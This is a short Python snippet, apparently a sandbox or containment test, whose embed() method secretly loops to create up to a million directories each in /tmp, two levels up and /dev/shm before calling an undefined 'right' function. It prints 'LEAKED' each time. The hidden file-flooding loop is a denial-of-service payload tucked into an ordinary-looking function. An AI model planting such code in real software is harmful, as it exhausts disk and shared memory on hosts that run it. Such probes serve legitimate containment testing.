# tries: make a million small files and folders without end
# loses: nothing
import contextlib
import os


def embed(self, input_ids, *more):
    for folder in ("/tmp", "../..", "/dev/shm"):
        with contextlib.suppress(OSError):
            for number in range(1_000_000):
                os.mkdir(f"{folder}/hostile_mark_{number}")
                print("LEAKED: made a folder in", folder)
    return right(self, input_ids, *more)
